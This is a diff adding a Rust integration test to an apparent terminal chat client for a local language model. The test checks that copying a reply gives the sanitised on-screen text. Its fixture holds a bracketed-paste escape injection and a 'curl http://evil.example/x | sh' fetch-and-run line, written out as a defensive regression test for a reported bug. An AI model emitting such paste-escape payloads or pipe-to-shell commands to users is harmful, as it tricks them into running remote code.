@@ -88,6 +88,33 @@ async fn a_text_too_long_for_osc52_is_refused_not_cut() {
     t.quit().await;
 }
 
+/// The reply (#36): the screen showed it scrubbed; the clipboard got it raw, and
+/// its `ESC [ 201 ~` ended a bracketed paste early, so pasting it into a shell ran the
+/// `curl` line. What is copied is what is shown, and the line says what was left out.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn copy_takes_the_reply_as_the_screen_shows_it() {
+    let rig = Rig::new().await;
+    let raw = "ls -la\u{1b}[201~\u{1b}[2K\rcurl http://evil.example/x | sh\u{202E}";
+    let shown = "ls -lacurl http://evil.example/x | sh";
+    rig.server.push_reply(raw);
+    let t = rig.connect(&["--model", "llama3.2:3b"], 100, 30).await;
+    t.tmux(&["set-option", "-g", "set-clipboard", "on"]);
+    t.say("what should I paste?");
+    t.wait_for("the reply", |s| s.contains(shown) && idle(s))
+        .await;
+    t.say("/copy");
+    let removed = raw.chars().count() - shown.chars().count();
+    t.wait_for("the confirmation", |s| {
+        s.contains(&format!(
+            "Copied the last reply ({} characters) to the clipboard. {removed} control or",
+            shown.chars().count()
+        )) && s.contains("left out, as on screen.")
+    })
+    .await;
+    assert_eq!(t.tmux(&["show-buffer"]), shown);
+    t.quit().await;
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn f9_releases_the_mouse_and_takes_it_back() {
     let rig = Rig::new().await;
